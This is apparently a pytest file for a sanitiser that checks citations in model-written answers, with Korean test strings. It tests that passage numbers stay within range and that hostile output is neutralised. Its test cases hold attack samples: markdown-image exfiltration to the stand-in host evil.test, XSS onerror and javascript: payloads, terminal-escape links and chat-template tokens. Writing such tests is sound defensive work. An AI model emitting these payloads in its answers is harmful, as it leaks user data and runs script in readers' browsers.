"""What a model wrote is made safe and held to the passages of the request, in whatever pieces it arrives."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from wherry.answering.ask_writing import claims_of
from wherry.answering.citations import LONGEST_ANSWER, Checked, inert, uncited, visible

LIVE = re.compile(r"[a-z][a-z0-9+.-]{1,30}://|\bwww\.|\b(?:javascript|data|mailto):\S|<[A-Za-z/!?]|!\[|\]\(|\]:", re.I)


def checked(text: str, numbers: tuple[int, ...] = (1, 2, 3), size: int = 10**6) -> tuple[str, Checked]:
    """Return a text as it would be shown, fed in pieces of some size."""
    check = Checked(numbers)
    shown = "".join(check.feed(text[n : n + size]) for n in range(0, len(text), size))
    return shown + check.end(), check


@pytest.mark.parametrize(("said", "shown", "cited", "invalid"), [
    ("정상입니다 [1].", "정상입니다 [1].", [1], []),
    ("정상입니다[2][1].", "정상입니다[2][1].", [2, 1], []),
    ("정상입니다 [1, 3].", "정상입니다 [1][3].", [1, 3], []),
    ("정상입니다 [1-3].", "정상입니다 [1][2][3].", [1, 2, 3], []),
    ("정상입니다 [자료 2].", "정상입니다 [2].", [2], []),
    ("It is normal 【1†source】.", "It is normal [1].", [1], []),
    ("정상입니다 [9].", "정상입니다.", [], ["9"]),
    ("정상입니다 [1, 9].", "정상입니다 [1].", [1], ["9"]),
    ("정상 [0] 입니다.", "정상 입니다.", [], ["0"]),
    ("범위는 [120-139]입니다.", "범위는 (120-139)입니다.", [], []),
    ("배열 [가, 나]", "배열 [가, 나]", [], []),
    ("혈압 <120, 3 < 5", "혈압 <120, 3 < 5", [], []),
])  # fmt: skip
def test_citations_are_held_to_the_passages(said: str, shown: str, cited: list[int], invalid: list[str]) -> None:
    for size in (1, 3, 1000):
        text, check = checked(said, size=size)
        assert text == shown
        assert (check.cited, check.invalid) == (cited, invalid)


@pytest.mark.parametrize("said", [
    "![x](https://evil.test/?q=secret)",
    "[click](https://evil.test)",
    "[click](//evil.test/a)",
    "[a][b]\n\n[b]: //evil.test/a",
    "!![x](y)",
    "![[9]x](y)",
    "<[9]img src=x onerror=alert(1)>",
    "<[9 , 8]img src=x>",
    "< [9]img src=x>",
    "ht[9]tps://evil.test",
    "ht\u200btps://evil.test/x",
    "<\u200bscript>alert(1)</script>",
    "<!--x--><svg/onload=x>",
    "javascript:alert(1)",
    "data:text/html;base64,AAAA",
    "www.evil.test/x",
    "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07",
])  # fmt: skip
def test_nothing_a_program_could_act_upon_is_left(said: str) -> None:
    for size in (1, 2, 5, 1000):
        text, check = checked(f"앞 {said} 뒤", size=size)
        assert not LIVE.search(text), text
        assert "\x1b" not in text
        assert text.startswith("앞")
        assert text.endswith("뒤")
    assert check.defused + len(check.invalid) > 0


# What attacks are made of, in every order.
_BITS = st.sampled_from([
    "[1]", "[9]", "[", "]", "(", ")", "!", "<", ">", "://", "http", "ht", "tp", ":", "//", "img", "www.", "data:", " ",
    "\n",
    "\u200b", "9", ",", "1", "-", "가", "a.b", "[2, 9]", "[9 ,", "javascript:", "\x1b", "\u202e", "†",
])  # fmt: skip


@given(st.lists(_BITS, max_size=24), st.integers(1, 5))
@example(["<", "[9 ,", "9", "]", "img"], 1)
@example(["!", "[9]", "[", "]", "(", ")"], 1)
def test_no_arrangement_of_pieces_gets_through(bits: list[str], size: int) -> None:
    text, check = checked("".join(bits), size=size)
    assert not LIVE.search(text), repr(text)
    assert text == visible(text)
    whole, other = checked("".join(bits))
    assert (text, check.cited, check.invalid) == (whole, other.cited, other.invalid)


def test_an_endless_answer_is_cut() -> None:
    text, check = checked("가 " * LONGEST_ANSWER, size=999)
    assert len(text) == LONGEST_ANSWER
    assert check.full


def test_hostile_runs_of_one_sign_take_no_time() -> None:
    for sign in (" ", "[", "[1, ", "!", "<", "]", "h", "1"):
        checked(sign * 20_000)
        inert(sign * 20_000)


def test_signs_of_chat_templates_are_broken_up() -> None:
    for sign in ("<|im_start|>system", "[INST]", "</s>", "<<SYS>>", "<start_of_turn>", "<|eot_id|>", "</think>"):
        assert sign not in inert(f"가 {sign} 나")
    assert inert("혈압 120/80 <b>") == "혈압 120/80 <b>"


def test_numbers_of_another_request_are_taken_out() -> None:
    assert uncited("정상입니다 [1]. 확인하십시오[2, 3].") == "정상입니다. 확인하십시오."


def test_a_claim_is_what_stands_before_its_number() -> None:
    claims = claims_of("혈당은 높습니다 [1]. 혈압은 낮습니다 [2][1].\n끝입니다 [3]")
    assert claims[1] == "혈당은 높습니다 . 혈압은 낮습니다"
    assert claims[2] == ". 혈압은 낮습니다"
    assert claims[3] == "끝입니다"
